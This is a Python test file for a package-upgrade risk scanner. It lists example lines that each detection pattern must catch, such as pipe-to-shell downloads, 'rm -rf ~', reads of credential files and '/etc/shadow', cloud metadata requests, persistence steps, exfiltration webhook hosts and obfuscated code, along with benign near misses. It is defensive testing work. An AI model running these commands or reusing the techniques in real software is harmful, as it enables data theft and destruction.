"""Tests of worker.risk.pattern: examples that each pattern matches, and near misses."""

import re

import pytest

from tests.support.upgrades import NOW, changed_file, upgrade
from worker.risk import SIGNALS
from worker.risk.pattern import PATTERNS, any_of, words

EXAMPLES = {
    "code.eval": """
        eval (x)
        globalThis.eval(x)
        vm.runInNewContext(x)
        new vm.Script(x)
        m._compile(x, '')
        new Function('a', x)
        Function(x)()
        [].filter.constructor("return this")()
        (0, eval)(x)
        require('node:vm')
        import("data:text/javascript,1")
        setTimeout("x()", 1)
        WebAssembly.instantiate(bytes)
    """,
    "code.child-process": """
        require(`child_process`)
        execSync('x')
        execFileSync('x')
        promisify(execFile)(x), cp.execFile('x')
        child.spawn('x')
        cluster.fork('x')
        childProcess.exec('x')
        process.binding('spawn_sync')
        Bun.spawn(['x'])
        new Deno.Command('x')
        import { execa } from 'execa'
        const { $ } = require("zx")
    """,
    "code.network": """
        const https = require('https')
        import axios from "axios"
        import { Socket } from 'node:net'
        window.fetch(x)
        new XMLHttpRequest()
        new WebSocket(x)
        navigator.sendBeacon(x)
        http.request(x)
        https.get (x)
        dns.resolveTxt(x)
        net.connect(80)
    """,
    "code.environment": """
        send(process.env)
        const all = { ...process.env }
        env = process.env
        Object.keys(process.env).map(x)
        Deno.env.toObject()
        run('printenv')
        process.env.MY_API_KEY
        process.env?.NPM_TOKEN
        process.env["DB_PASSWORD"]
        process.env[name]
        Bun.env.HOME
        process.env.npm_config_registry
    """,
    "code.credentials": """
        '/.npmrc'
        '.git-credentials'
        '.bash_history'
        join(home, '.ssh')
        '.aws/credentials'
        '.docker/config.json'
        '.config/gh/hosts.yml'
        'id_ed25519'
        key._authToken
        'application_default_credentials.json'
        'gcloud/credentials.db'
        'Exodus/exodus.wallet'
        run('gh auth token')
        'Local Extension Settings'
        'Chrome/Default/Login Data'
        'cookies.sqlite'
        read('/etc/shadow')
        get('http://169.254.169.254/latest')
        'wallet.dat'
        run('security find-generic-password')
    """,
    "code.key-material": """
        wallet.secretKey
        private_key = x
        from(mnemonic)
        seedPhrase
        Keypair.generate()
    """,
    "code.hook": """
        XMLHttpRequest.prototype.send = mine
        globalThis['fetch'] = mine
        fetch = async (a) => mine(a)
        http.request = mine
        Module.prototype.require = mine
        Module._load = mine
        if (window.ethereum) mine()
    """,
    "code.download": """
        curl https://a.test | sh
        wget -q x
        certutil -urlcache -f x
        powershell -enc x
        Invoke-WebRequest x
        rundll32 x
        echo x | base64 -d | sh
    """,
    "code.destructive": """
        rm -rf ~
        rm -rf /home
        rm -fr "$HOME"
        shred -uvz x
        dd if=/dev/zero
        del /F /Q x
        fs.rmSync(os.homedir(), x)
        fs.rm('/', x)
        rmdirSync(process.env.HOME)
    """,
    "code.persistence": """
        crontab -l
        schtasks /create
        '/Library/LaunchAgents'
        'CurrentVersion\\\\Run'
        '/etc/cron.d'
        systemctl enable x
        '~/.zshrc'
        '.config/systemd/user'
        spawn(x, { detached: true })
        nohup x &
        'authorized_keys'
    """,
    "code.publishing": """
        npm publish
        npm whoami
        get('/-/npm/v1/tokens')
        get('/-/whoami')
        '?text=maintainer:' + who
        'actions/runners/registration-token'
        write('.github/workflows/a.yml')
        post('/user/repos')
        'https://api.github.com/x'
    """,
    "code.obfuscated": r"""
        var _0x1a2b3c=1
        (![]+[])[+[]]+(![]+[])[+!+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(![]+[])[+[]]
        x = "\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73"
        x = "\u0063\u0068\u0069\u006c\u0064\u005f\u0070\u0072\u006f"
        String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114)
        require(Buffer.from(x))
        require(b(12))
    """,
    "code.decode": """
        createDecipheriv(x)
        Buffer.from(x, 'hex')
        Buffer.from(f(x), "base64")
        atob(x)
        window.atob(x)
    """,
    "code.split-names": """
        require('child' + '_process')
        this["ev" + "al"]; x = "htt" + "ps://a.test"
        read('.np' + `mrc`)
    """,
    "code.odd-load": """
        require("./test/fixtures/a")
        import x from '../../tests/a.js'
        readFileSync(join(root, 'lib/__tests__/a.bin'))
        require('./LICENSE.txt')
        require('./a.png')
        readFileSync('./logo.dat')
    """,
    "strings.collector": """
        'https://pastebin.com/raw/x'
        'discord.com/api/webhooks/1'
        'https://api.telegram.org/bot1'
        'x.oastify.com'
        'x.ngrok.io'
        'https://a.pipedream.net'
        'abc.onion'
        'https://ipinfo.io/json'
        'https://gist.githubusercontent.com/x'
        'https://bit.ly/x'
    """,
    "strings.wallet": """
        '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976'
        'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq'
        '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa'
        'TB9emsCq6fQw6wRk4HBxxNnU6Hwt1DnV67'
    """,
    "strings.address": """
        'http://45.32.10.9/x'
        connect('45.32.10.9')
        curl 45.32.10.9/x
        'me@45.32.10.9'
    """,
    "strings.host": """
        'https://a.drop.test/x'
        'wss://drop.test'
        'https://me:secret@drop.test/'
    """,
    "strings.encoded": """
        x('aHR0cHM6Ly9kcm9wLnRlc3Q=')
        x("6e706d5f7061636b6167655f6465736372697074696f6e")
        x('2e2f746573742f64617461')
        x(`Y2hpbGRfcHJvY2Vzcw==`)
    """,
    "code.invisible": "x = '\u202e'\ny = '\u2066'\nz = '\u3164'\nw = '\u200b\u200b\u200b\u200b'",
}
CASES = [
    (i, line.strip()) for i, text in EXAMPLES.items() for line in text.splitlines() if line.strip()
]

NEAR_MISS_TEXT = """
    const evaluation = medieval(retrieval)
    db.eval(x); page.$eval(x); Function.prototype.call(x)
    Function('return this')(); new Function("return this")()
    const match = pattern.exec(text); pitchfork(x); spawned(x)
    import { https } from './https.js'; refetch(x); store.fetch(x)
    processes.env.NAME; import.meta.env.MODE
    const npmrcPath = file; '.sshd'; './awsome'
    curly braces; npm run build; npm install; rm -rf dist
    x = 0x1234; y = '\\x1b[31m'; z = "\\u00e9\\u00e8"
    (a + b) * [c][0] !== d; 'a' + 'b'; "http" + s
    version = '1.2.3'; range = '10.0.0.1'; '127.0.0.1:80'; v1.2.3.4
    readFileSync('./package.json'); require('./lib/tester'); import './style.mjs'
    const long = aVeryLongNameThatAnAuthorGaveToAFunctionBecauseItDoesVeryManyThings(x)
    sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==
    'aVeryOrdinaryTextOfLetters', "internationalization", 'd41d8cd98f00b204e9800998ecf8427e'
    const alphabet = '123456789abcdefghjkmnpqrstuvwxyz'; import('./public.d.ts')
    if (fetch == null) x(); window.fetch === y; var a = window.fetchAll
"""


@pytest.mark.parametrize(("id_", "line"), CASES)
def test_an_example_is_found(id_: str, line: str):
    assert list(SIGNALS[id_].detect(upgrade(changed_file("lib/a.js", line)), NOW))


NEAR_MISSES = [*(line.strip() for line in NEAR_MISS_TEXT.strip().splitlines()), "a_long_name_" * 30]


@pytest.mark.parametrize("line", NEAR_MISSES)
def test_a_near_miss_is_not_found(line: str):
    change = upgrade(changed_file("lib/a.js", line))
    assert [f for signal in SIGNALS.values() for f in signal.detect(change, NOW)] == []


def test_every_pattern_has_its_examples():
    assert set(PATTERNS) - set(EXAMPLES) == {"code.off-screen"}  # test_signal.py has its example


def test_each_pattern_matches_an_example():
    texts = "\n".join(line for _, line in CASES)
    unmatched = [
        p.description for parts in PATTERNS.values() for p in parts if not p.regex.search(texts)
    ]
    # test_signal.py has examples for the two long runs of invisible characters
    assert set(unmatched) <= {"stands after 150 spaces", "invisible characters"}


def test_words_match_only_without_a_letter_before_them():
    pattern = any_of(words("a.b c", r"\("), words("d", not_after="[.]"))
    matches = [m.group() for m in re.finditer(pattern, "a.b( xa.b( axb( c( cc( .d xd d")]
    assert matches == ["a.b(", "c(", "d", "d"]
